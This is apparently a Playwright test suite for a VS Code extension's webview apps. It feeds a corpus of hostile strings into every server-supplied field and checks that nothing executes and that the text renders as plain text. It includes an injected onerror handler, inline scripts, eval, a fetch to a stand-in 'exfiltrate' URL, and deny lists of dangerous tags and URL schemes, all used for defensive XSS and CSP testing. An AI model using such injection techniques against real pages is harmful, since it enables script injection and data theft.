// Hostile server text in every webview app, in real Chromium under the extension's own CSP (the harness builds the
// page with src/webviews/html.ts): each app is loaded with states whose every string field the protocol accepts
// carries one entry of the corpus (test/harness/hostile.ts), and keys of its free-form objects carry hostile
// keys. Nothing may run (the payloads set window.__pwned), no element may come from the markup (no img, script,
// iframe… beyond what the app renders with harmless text; no on* attribute; no javascript:/command:/vscode: URL),
// the page logs no error and breaks no CSP rule, and the text is there as text. Then: the CSP itself blocks a
// script, an event-handler attribute, eval and a fetch injected into the page, and reports each.
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import * as z from 'zod/mini';
import { CompareReady, CompareState, Rows as CompareRows, type IndexRow, type RowContent } from '../../src/protocol/compare';
import { DatasetDiffReady, DiffPage, type DiffRow } from '../../src/protocol/datasetDiff';
import { ExampleChanged, ExampleEditorReady } from '../../src/protocol/exampleEditor';
import { HelloReady, Ping } from '../../src/protocol/hello';
import { Load as MonitorLoad, MonitorReady, type Dashboard } from '../../src/protocol/monitor';
import { PlaygroundReady, PlaygroundState, RunDelta, RunFinished } from '../../src/protocol/playground';
import { PromptCommitReady, PromptCommitState } from '../../src/protocol/promptCommit';
import { HOSTILE, HOSTILE_KEYS, PWNED, type HostileEntry } from '../harness/hostile';
import { recordFigures } from '../harness/report';
import { withWebviewApps, type OpenApp } from './harness';

type Json = unknown;
const ENDPOINT = 'http://127.0.0.1:1984';
const ID = (n: number) => `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`;

/** Elements an app renders from its own code only with harmless content; hostile markup must never add any. */
const DANGEROUS = 'script,iframe,frame,frameset,object,embed,img,image,svg,animate,set,math,base,form,meta,link,style,details,marquee,video,audio,source,template,portal';

/**
 * A copy of `fixture` in which every string the schema still accepts as `value` is `value`, and every object that
 * accepts more keys has the hostile keys too. Returns it with the number of fields it carries hostile text in.
 */
function hostilize(schema: z.ZodMiniType, fixture: Json, value: string): { data: Json; fields: number } {
  assert.ok(schema.safeParse(fixture).success, `the fixture fits its schema: ${JSON.stringify(schema.safeParse(fixture).error?.issues?.slice(0, 2))}`);
  const data = structuredClone(fixture) as Json;
  let fields = 0;
  const ok = () => schema.safeParse(data).success;
  const visit = (node: Json) => {
    if (Array.isArray(node)) {
      for (let i = 0; i < node.length; i++) {
        if (typeof node[i] === 'string') {
          const before = node[i];
          // Lists hold distinct names (variables, splits, tags): the later ones get a number after the text.
          node[i] = i === 0 ? value : `${value}${i}`;
          if (ok()) fields++;
          else node[i] = before;
        } else visit(node[i]);
      }
      return;
    }
    if (!node || typeof node !== 'object') return;
    const obj = node as Record<string, Json>;
    for (const key of Object.keys(obj)) {
      if (typeof obj[key] === 'string') {
        const before = obj[key];
        obj[key] = value;
        if (ok()) fields++;
        else obj[key] = before;
      } else visit(obj[key]);
    }
    // Own properties with hostile names, as JSON.parse would make them from a message.
    for (const key of [value.slice(0, 200), ...HOSTILE_KEYS]) {
      if (Object.prototype.hasOwnProperty.call(obj, key)) continue;
      Object.defineProperty(obj, key, { value, enumerable: true, configurable: true, writable: true });
      if (ok()) fields++;
      else delete obj[key];
    }
  };
  visit(data);
  return { data, fields };
}

// ---------- the apps and their benign fixtures (each checked against the protocol) ----------

const connection = { signedIn: true, endpoint: ENDPOINT };

const exampleSnapshot = {
  id: ID(2),
  inputs: { invoice_text: 'ACME Hosting Inc. — total due USD 1,240.50', currency: 'USD' },
  outputs: { vendor: 'ACME Hosting Inc.', total: 1240.5 },
  metadata: { source: 'email' },
  splits: ['train'],
  attachments: [{ name: 'invoice.pdf', mimeType: 'application/pdf' }],
  modifiedAt: '2026-11-20T10:00:00.000000+00:00',
};

const diffRows: DiffRow[] = [
  { id: ID(11), kind: 'added', summary: 'How do I enable two-factor authentication?', changes: [{ path: 'inputs.question', op: 'added', before: null, after: 'How do I enable 2FA?' }], moreChanges: 0 },
  { id: ID(12), kind: 'removed', summary: 'Can I pay by invoice?', changes: [{ path: 'outputs.answer', op: 'removed', before: 'Yes, on the annual plan.', after: null }], moreChanges: 0 },
  {
    id: ID(13),
    kind: 'modified',
    summary: 'How do I reset my password?',
    changes: [
      { path: 'outputs.answer', op: 'changed', before: 'Use the reset link.', after: 'Use the reset link. (reviewed)' },
      { path: 'split', op: 'changed', before: 'train', after: 'test' },
    ],
    moreChanges: 1,
  },
];

const promptState = PromptCommitState.parse({
  local: {
    fileName: 'demo-summarizer.prompt.yaml',
    dirty: true,
    identifier: 'demo-summarizer',
    templateFormat: 'f-string',
    variables: ['audience', 'text'],
    problems: [{ message: 'The description is short.', severity: 'warning', line: 2, column: 1 }],
    description: 'Summarizes a document for a given audience.',
    visibility: 'private',
  },
  remote: {
    displayName: 'local/demo-summarizer',
    exists: true,
    own: true,
    refusal: null,
    isPublic: false,
    description: 'Summarizes a document.',
    latest: { hash: '3f9a1c7e2b4d6f80a1c3e5f70912b4d6e8fa0c21', createdAt: '2026-11-20T10:00:00.000Z', tags: ['staging'] },
    environments: { production: '8c27e0d5b19f4a63c7d2e8f1a0b3c5d7e9f1a2b4', staging: '3f9a1c7e2b4d6f80a1c3e5f70912b4d6e8fa0c21' },
    tags: ['production', 'staging'],
  },
  remoteError: null,
  changes: [
    { section: 'messages[0] (system)', kind: 'changed', attribute: false, lines: [{ type: 'same', text: 'You summarize.' }, { type: 'del', text: 'Old line.' }, { type: 'add', text: 'New line.' }] },
    { section: 'description', kind: 'changed', attribute: true, lines: [{ type: 'add', text: 'Summarizes a document for a given audience.' }] },
  ],
});

const finishedRun = {
  runId: 'run-0',
  outcome: 'error',
  answer: 'Open Settings, then Security.',
  usage: { input: 12, output: 30, total: 42 },
  error: 'The model endpoint refused the request.',
  hint: 'Check the model name.',
  trace: { status: 'failed', message: 'LangSmith did not answer.', pending: 1 },
  session: { id: 'session-1', turns: [{ role: 'human', content: 'Hello?' }, { role: 'ai', content: 'Hi, how can I help?' }] },
  latencyMs: 850,
};

const playgroundState = PlaygroundState.parse({
  title: 'support-reply.prompt.yaml',
  source: 'file',
  prompt: {
    kind: 'chat',
    templateFormat: 'f-string',
    variables: ['customer', 'question'],
    messages: [
      { role: 'system', template: 'You answer support questions for {customer}.' },
      { role: 'human', template: 'Customer question: {question}' },
    ],
  },
  problem: null,
  values: { customer: 'Acme Corp', question: 'How do I reset my password?' },
  model: { model: 'gpt-4o-mini', temperature: 0.2, maxTokens: null },
  promptModel: 'gpt-4o',
  endpoint: { url: `${ENDPOINT}/v1`, source: 'localServer', hasKey: false },
  project: 'playground',
  tracing: true,
  session: { id: 'session-1', turns: [{ role: 'human', content: 'Hello?' }, { role: 'ai', content: 'Hi, how can I help?' }] },
  pendingTraces: 1,
  running: [],
  finished: [finishedRun],
});

// The comparison: three experiments, a dozen examples; the first two rows come with the state, the rest are asked.
const compareIndex: IndexRow[] = Array.from({ length: 12 }, (_, r) => ({
  exampleId: ID(0x500 + r),
  cells: Object.fromEntries(
    [0, 1, 2].map((e) => [ID(0x400 + e), r === 3 && e === 2 ? null : { runId: ID(0x600 + r * 4 + e), error: r === 1 && e === 1, scores: { correctness: ((r + e) % 3) / 2, verbosity: 1 + ((r * e) % 3) } }]),
  ),
}));
const compareRow = (row: IndexRow, r: number): RowContent => ({
  exampleId: row.exampleId,
  inputs: `{"question": "How do I reset my password? (${r})"}`,
  reference: `{"answer": "Settings, then Security (${r})"}`,
  cells: Object.fromEntries(
    Object.entries(row.cells).map(([id, c]) => [
      id,
      c && { runId: c.runId, output: `Open Settings (${r})`, truncated: r === 0, error: c.error ? 'Rate limited' : null, latencyMs: 800, totalTokens: 120, feedback: { correctness: { score: 1, value: 'right', comment: 'Matches the reference' } } },
    ]),
  ),
});
const compareState = CompareState.parse({
  kind: 'compare',
  dataset: { id: ID(0x3ff), name: 'support-qa', url: 'https://smith.langchain.com/o/1/datasets/2' },
  experiments: [0, 1, 2].map((e) => ({
    id: ID(0x400 + e),
    name: `experiment ${e}`,
    createdAt: 1_760_000_000_000 + e,
    runCount: 12,
    errorRate: e === 1 ? 0.08 : 0,
    latencyP50: 0.8,
    latencyP99: 2.1,
    totalTokens: 1440,
    totalCost: 0.0123,
    feedback: { correctness: { n: 12, avg: 0.5 + e / 10 }, verbosity: { n: 12, avg: 2 - e / 10 } },
    source: `prompt support-answer:${e}abc · model gpt-4o`,
    url: 'https://smith.langchain.com/o/1/projects/p',
  })),
  keys: [{ key: 'correctness', lowerIsBetter: false }, { key: 'verbosity', lowerIsBetter: true }],
  baselineId: ID(0x400),
  index: compareIndex,
  indexTruncated: true,
  rows: compareIndex.slice(0, 2).map(compareRow),
  mac: false,
});

interface AppCase {
  app: string;
  /** What shows once the state is rendered. */
  loaded: string;
  /** The host's answers, with hostile text (or the benign fixtures when value is null); counts the fields. */
  handlers(value: string | null, count: (n: number) => void): Record<string, (params: unknown) => unknown>;
  /** What a user does next, with the host pushing hostile text: notifications, a request answered. */
  interact?(app: OpenApp, value: string | null, count: (n: number) => void): Promise<void>;
  /**
   * The longest text a shown field of the app's state may carry (its protocol's limit), when every one has a limit:
   * a longer entry cannot reach the page (the schema refuses it), so it is not looked for there.
   */
  longestShown?: number;
}

/** The fixture as it is, or hostile; the count of hostile fields goes to `count`. */
function variant(schema: z.ZodMiniType, fixture: Json, value: string | null, count: (n: number) => void): any {
  if (value === null) return fixture;
  const { data, fields } = hostilize(schema, fixture, value);
  count(fields);
  return data;
}

const monitorTimes = Array.from({ length: 8 }, (_, i) => Date.UTC(2026, 10, 20) + i * 3_600_000);
const monitorDashboard: Dashboard = {
  query: { range: '24h', startTime: monitorTimes[0]!, endTime: monitorTimes[7]! + 3_600_000, stride: { days: 0, hours: 1, minutes: 0 }, timezone: 'UTC', groupBy: null },
  times: monitorTimes,
  charts: [
    {
      id: 'trace-latency',
      title: 'Trace Latency',
      section: 'demo-production',
      kind: 'line',
      unit: 'seconds',
      series: [
        { id: 's1', name: 'P50 · gpt-4o', metric: 'latency_p50', feedbackKey: null, filter: 'eq(is_root, true)', group: 'gpt-4o', groupBy: { attribute: 'metadata', path: 'ls_model_name' } },
        { id: 's2', name: 'P99', metric: 'latency_p99', feedbackKey: null, filter: null, group: null, groupBy: null },
      ],
      values: [monitorTimes.map((_, i) => 0.8 + i / 10), monitorTimes.map((_, i) => 2 + i / 5)],
    },
    {
      id: 'run-names',
      title: 'Top Run Names',
      section: 'demo-production',
      kind: 'bar',
      unit: 'count',
      series: [
        { id: 's3', name: 'retrieve_docs', metric: 'run_count', feedbackKey: null, filter: 'eq(is_root, true)', group: 'retrieve_docs', groupBy: { attribute: 'name', path: null } },
        { id: 's3', name: 'answer', metric: 'run_count', feedbackKey: null, filter: 'eq(is_root, true)', group: 'answer', groupBy: { attribute: 'name', path: null } },
      ],
      values: [monitorTimes.map((_, i) => 10 + i), monitorTimes.map((_, i) => 5 + i)],
    },
  ],
};

const APPS: AppCase[] = [
  {
    app: 'compare',
    loaded: 'grid',
    handlers: (v, count) => ({
      'compare/ready': () => variant(CompareReady.result, { restore: { datasetId: ID(0x3ff), experimentIds: [ID(0x400), ID(0x401), ID(0x402)] }, connection, state: compareState }, v, count),
      'compare/reload': () => variant(CompareState, compareState, v, count),
      'compare/rows': (p) => {
        const ids = new Set((p as { exampleIds: string[] }).exampleIds);
        const rows = compareIndex.flatMap((row, r) => (ids.has(row.exampleId) ? [compareRow(row, r)] : []));
        return variant(CompareRows.result, { rows: rows.length ? rows : compareIndex.slice(2, 5).map((row, r) => compareRow(row, r + 2)) }, v, count);
      },
    }),
    async interact(app, v) {
      // The host pushes a change (everything read again), then the rows below the first two are asked for.
      await app.notify('compare/changed', {});
      for (let i = 0; i < 100 && app.requests('compare/reload').length === 0; i++) await app.page.waitForTimeout(20);
      assert.equal(app.requests('compare/reload').length, 1, 'a change reads the comparison again');
      await app.page.getByTestId('grid').evaluate((el) => (el.scrollTop = el.scrollHeight));
      for (let i = 0; i < 100 && app.requests('compare/rows').length === 0; i++) await app.page.waitForTimeout(20);
      if (v === null) assert.ok(app.requests('compare/rows').length > 0, 'rows out of view are asked for');
      await app.page.waitForTimeout(100);
    },
  },
  {
    app: 'monitor',
    loaded: 'chart',
    handlers: (v, count) => ({
      'monitor/ready': () => variant(MonitorReady.result, { restore: { projectId: ID(0x500), projectName: 'demo-production' }, connection, state: { kind: 'monitor', project: { id: ID(0x500), name: 'demo-production' }, dashboard: monitorDashboard } }, v, count),
      'monitor/load': () => variant(MonitorLoad.result, monitorDashboard, v, count),
    }),
    async interact(app) {
      // Another grouping asks again; the answer replaces the charts.
      await app.page.getByTestId('group').selectOption('name');
      for (let i = 0; i < 100 && app.requests('monitor/load').length === 0; i++) await app.page.waitForTimeout(20);
      assert.equal(app.requests('monitor/load').length, 1, 'the charts were asked for again');
      await app.page.getByTestId('chart').first().waitFor();
      await app.page.locator('[data-testid=chart] summary').first().click();
    },
    // Titles and names are cut at 2,000 characters by the host (src/protocol/monitor.ts).
    longestShown: 2000,
  },
  {
    app: 'hello',
    loaded: 'endpoint',
    handlers: (v, count) => ({
      'hello/ready': () => variant(HelloReady.result, { restore: 'hello', connection, state: { endpoint: ENDPOINT, signedIn: true, source: 'environment' } }, v, count),
      'hello/ping': () => variant(Ping.result, { reply: 'got hi', connection: { endpoint: ENDPOINT, signedIn: true, source: 'environment' }, receivedAt: '2026-11-20T10:00:00.000Z' }, v, count),
    }),
    async interact(app) {
      await app.page.getByTestId('message').locator('input').fill('hi');
      await app.page.getByTestId('send').click();
      await app.page.getByTestId('reply').waitFor();
    },
  },
  {
    app: 'exampleEditor',
    loaded: 'inputs',
    handlers: (v, count) => ({
      'exampleEditor/ready': () =>
        variant(
          ExampleEditorReady.result,
          {
            restore: { datasetId: ID(1), exampleId: ID(2), isNew: false },
            connection,
            state: {
              dataset: { id: ID(1), name: 'demo-invoices', inputsSchema: { type: 'object', required: ['invoice_text'], properties: { invoice_text: { type: 'string', description: 'The text.' } } }, outputsSchema: null, splits: ['train', 'test'] },
              example: exampleSnapshot,
              exampleId: ID(2),
              split: null,
              recoveredDraft: null,
            },
          },
          v,
          count,
        ),
    }),
    async interact(app, v, count) {
      // The example changed on the server while the user was editing: the banner says so, the new text shows.
      await app.page.getByTestId('metadata').locator('textarea').fill('{"edited": true}');
      await app.notify('exampleEditor/changed', variant(ExampleChanged.params, { example: { ...exampleSnapshot, modifiedAt: '2026-11-21T10:00:00.000000+00:00' } }, v, count));
      await app.page.getByTestId('changed-on-server').waitFor();
    },
  },
  {
    app: 'datasetDiff',
    loaded: 'diff-row',
    handlers: (v, count) => ({
      'datasetDiff/ready': () =>
        variant(
          DatasetDiffReady.result,
          {
            restore: { datasetId: ID(9) },
            connection,
            state: { dataset: { id: ID(9), name: 'demo-support-qa' }, from: { asOf: '2024-05-01T10:00:00.000Z', label: 'v1' }, to: { asOf: 'prod', label: 'prod' }, counts: { added: 1, removed: 1, modified: 1 } },
          },
          v,
          count,
        ),
      'datasetDiff/page': (p) => {
        const { offset } = p as { offset: number };
        return variant(DiffPage.result, { offset, total: diffRows.length, rows: diffRows.slice(offset) }, v, count);
      },
    }),
  },
  {
    app: 'promptCommit',
    loaded: 'prompt-commit',
    handlers: (v, count) => ({
      'promptCommit/ready': () => variant(PromptCommitReady.result, { restore: { uri: 'file:///work/prompts/demo-summarizer.prompt.yaml' }, connection, state: promptState }, v, count),
    }),
    async interact(app, v, count) {
      await app.notify('promptCommit/changed', variant(PromptCommitState, promptState, v, count));
      await app.page.waitForTimeout(100);
    },
  },
  {
    app: 'playground',
    loaded: 'playground',
    handlers: (v, count) => ({
      'playground/ready': () => variant(PlaygroundReady.result, { restore: { kind: 'file', uri: 'file:///work/support-reply.prompt.yaml' }, connection, state: playgroundState }, v, count),
      'playground/run': () => ({ runId: 'run-1' }),
    }),
    async interact(app, v, count) {
      // A run streams hostile text and ends with a hostile error; then the whole state is pushed again.
      const run = app.page.getByTestId('run');
      if ((await run.getAttribute('disabled')) === null) {
        await run.click();
        const refused = app.page.getByTestId('error');
        for (let i = 0; i < 100 && app.requests('playground/run').length === 0 && !(await refused.count()); i++) await app.page.waitForTimeout(20);
        if (await refused.count()) {
          // A variable named __proto__ cannot be given a value (a record would drop it): the page says so.
          assert.match((await refused.first().textContent()) ?? '', /__proto__/, 'the run was refused, and the page says why');
        } else {
          assert.equal(app.requests('playground/run').length, 1, 'the run was started');
          const delta = variant(RunDelta.params, { runId: 'run-1', text: 'Part of the answer' }, v, count) as object;
          await app.notify('playground/delta', { ...delta, runId: 'run-1' });
          const finished = variant(RunFinished.params, { ...finishedRun, runId: 'run-1' }, v, count) as object;
          await app.notify('playground/finished', { ...finished, runId: 'run-1' });
        }
      }
      await app.notify('playground/changed', variant(PlaygroundState, playgroundState, v, count));
      await app.page.waitForTimeout(100);
    },
  },
];

// ---------- what the page shows ----------

interface Inspection {
  pwned: unknown;
  counts: Record<string, number>;
  /** on* attributes anywhere in the document (shadow roots included). */
  handlers: string[];
  /** URL-bearing attributes with a javascript:, command:, vscode: or similar value. */
  badUrls: string[];
  /** All text a person can see: text nodes, field values, labels. */
  text: string;
}

/**
 * Looks through the page (shadow roots included). A string, not a function: the test runner's transpiler would
 * add helpers to a function that the page does not have.
 */
const INSPECT = `(({ dangerous, flag }) => {
  const root = document.getElementById('root');
  const counts = {};
  const handlers = [];
  const badUrls = [];
  const texts = [];
  const urlAttribute = /^(href|src|action|formaction|data|srcdoc|xlink:href|background|poster|cite|ping|srcset)$/i;
  const badScheme = /^(javascript|vbscript|command|vscode|vscode-insiders|file):|^data:text\\/html/;
  const stack = [{ scope: document, inRoot: false }];
  while (stack.length) {
    const { scope, inRoot } = stack.pop();
    for (const el of Array.from(scope.querySelectorAll('*'))) {
      const inside = inRoot || root.contains(el);
      if (inside && el.matches(dangerous)) counts[el.localName] = (counts[el.localName] || 0) + 1;
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) handlers.push(el.localName + '[' + a.name + ']');
        // Browsers ignore whitespace and control characters in a URL's scheme: so does the check.
        const url = a.value.replace(/[\\u0000-\\u0020\\u007f-\\u009f]/g, '').toLowerCase();
        if (urlAttribute.test(a.name) && badScheme.test(url)) badUrls.push(el.localName + '[' + a.name + '=' + a.value.slice(0, 60) + ']');
        if (inside && /^(value|current-value|title|aria-label|placeholder)$/i.test(a.name)) texts.push(a.value);
      }
      if (inside && (el instanceof HTMLInputElement || el instanceof HTMLTextAreaElement)) texts.push(el.value);
      if (el.shadowRoot) stack.push({ scope: el.shadowRoot, inRoot: inside });
    }
  }
  texts.push(root.textContent || '');
  return { pwned: window[flag], counts, handlers, badUrls, text: texts.join('\\n') };
})`;

async function inspect(page: Page): Promise<Inspection> {
  return page.evaluate(`${INSPECT}(${JSON.stringify({ dangerous: DANGEROUS, flag: PWNED })})`) as Promise<Inspection>;
}

/** A piece of the entry a page must show as text: its first run of printable characters (≥ 3), at most 20 long. */
function probe(value: string): string | null {
  const run = value.split(/[^\x21-\x7e ]+/).map((s) => s.trim()).find((s) => s.length >= 3);
  return run ? run.slice(0, 20).trim() : null;
}

async function settle(page: Page): Promise<void> {
  // Long enough for an image that fails to load to fire onerror, and for React to commit twice.
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 250))));
}

describe('webview: hostile server text in every app', function () {
  this.timeout(120_000);
  const open = withWebviewApps();
  const figures = { appsChecked: 0, loads: 0, entries: HOSTILE.length, hostileFields: 0, fieldsByApp: {} as Record<string, number>, scriptsExecuted: 0, cspViolations: 0, consoleErrors: 0, dangerousElements: 0, eventHandlerAttributes: 0, dangerousUrls: 0, injectedBlocked: 0 };

  after(() => {
    recordFigures('webviewHostile', figures);
  });

  for (const c of APPS) {
    describe(c.app, () => {
      let baseline: Inspection;

      it('renders the benign fixture (the baseline of elements the app itself makes)', async () => {
        const app = await open(c.app, { handlers: c.handlers(null, () => undefined) });
        await app.page.getByTestId(c.loaded).first().waitFor();
        await c.interact?.(app, null, () => undefined);
        await settle(app.page);
        baseline = await inspect(app.page);
        assert.equal(baseline.pwned, undefined);
        assert.deepEqual(baseline.handlers, []);
        assert.deepEqual(baseline.badUrls, []);
        figures.appsChecked++;
      });

      for (const entry of HOSTILE) {
        it(`${entry.class} “${entry.name}” in every field: nothing runs, nothing is made of it, it shows as text`, async () => {
          let fields = 0;
          const count = (n: number) => (fields += n);
          const app = await open(c.app, { handlers: c.handlers(entry.value, count) });
          figures.loads++;
          await app.page
            .getByTestId(c.loaded)
            .first()
            .waitFor({ timeout: 10_000 })
            .catch((err: Error) => assert.fail(`the app did not render (${err.message.split('\n')[0]}); the page said: ${app.problems.join(' | ').slice(0, 3000)}`));
          await settle(app.page);
          await check(app, entry, 'after the ready answer');
          await c.interact?.(app, entry.value, count);
          await settle(app.page);
          await check(app, entry, 'after the host pushed more');
          assert.ok(fields > 0, 'some field carried the text');
          figures.hostileFields += fields;
          figures.fieldsByApp[c.app] = (figures.fieldsByApp[c.app] ?? 0) + fields;
        });
      }

      async function check(app: OpenApp, entry: HostileEntry, when: string) {
        const seen = await inspect(app.page);
        if (seen.pwned !== undefined) figures.scriptsExecuted++;
        figures.cspViolations += app.cspViolations.length;
        figures.consoleErrors += app.problems.length - app.cspViolations.length;
        figures.eventHandlerAttributes += seen.handlers.length;
        figures.dangerousUrls += seen.badUrls.length;
        assert.equal(seen.pwned, undefined, `${when}: a payload ran (window.${PWNED} = ${String(seen.pwned)})`);
        assert.deepEqual(seen.handlers, [], `${when}: elements with event-handler attributes`);
        assert.deepEqual(seen.badUrls, [], `${when}: links or sources with a dangerous URL`);
        for (const [tag, n] of Object.entries(seen.counts)) {
          if (n > (baseline.counts[tag] ?? 0)) figures.dangerousElements += n - (baseline.counts[tag] ?? 0);
          assert.ok(n <= (baseline.counts[tag] ?? 0), `${when}: ${n} <${tag}> in #root, the app itself renders ${baseline.counts[tag] ?? 0}`);
        }
        assert.deepEqual(app.problems, [], `${when}: console errors or CSP violations`);
        const piece = probe(entry.value);
        if (piece && (c.longestShown === undefined || entry.value.length <= c.longestShown)) assert.ok(seen.text.includes(piece), `${when}: “${piece}” is not shown as text anywhere`);
      }
    });
  }

  describe('the CSP of every page', () => {
    it('blocks an injected inline script, an event-handler attribute, eval and a fetch, and reports each', async () => {
      const app = await open('hello', { handlers: APPS.find((a) => a.app === 'hello')!.handlers(null, () => undefined) });
      await app.page.getByTestId('endpoint').waitFor();
      // The app's own bundle ran: it was allowed by the nonce.
      assert.equal(app.cspViolations.length, 0);
      const outcome = await app.page.evaluate(async () => {
        const w = window as unknown as Record<string, unknown>;
        const script = document.createElement('script');
        script.textContent = 'window.__injected = "inline script"';
        document.body.appendChild(script);
        const guessed = document.createElement('script');
        guessed.nonce = 'AAAAAAAAAAAAAAAAAAAAAAAA';
        guessed.textContent = 'window.__injected = "script with a guessed nonce"';
        document.body.appendChild(guessed);
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.__injected = "event handler"');
        img.src = 'x';
        document.body.appendChild(img);
        // In a task of the page's own (code run by the test driver itself may eval).
        const evalBlocked = await new Promise<boolean>((resolve) =>
          setTimeout(() => {
            try {
              (0, eval)('window.__injected = "eval"');
              resolve(false);
            } catch {
              resolve(true);
            }
          }),
        );
        let fetchBlocked = false;
        try {
          await fetch('https://example.invalid/exfiltrate');
        } catch {
          fetchBlocked = true;
        }
        await new Promise((r) => setTimeout(r, 300));
        return { injected: w['__injected'], evalBlocked, fetchBlocked };
      });
      assert.equal(outcome.injected, undefined, `the injected code ran: ${String(outcome.injected)}`);
      assert.ok(outcome.evalBlocked, 'eval is refused');
      assert.ok(outcome.fetchBlocked, 'fetch is refused (connect-src none)');
      const directives = app.cspViolations.map((v) => v.split(' ')[0]);
      assert.ok(directives.filter((d) => d === 'script-src-elem').length >= 2, `violations: ${app.cspViolations.join(' | ')}`);
      assert.ok(directives.includes('script-src-attr'), `violations: ${app.cspViolations.join(' | ')}`);
      assert.ok(directives.includes('connect-src'), `violations: ${app.cspViolations.join(' | ')}`);
      assert.ok(directives.includes('script-src'), `eval is reported: ${app.cspViolations.join(' | ')}`);
      figures.injectedBlocked = app.cspViolations.length;
      // These violations were the point: the suite's check for a clean page must not count them.
      app.problems.length = 0;
      app.cspViolations.length = 0;
    });
  });
});
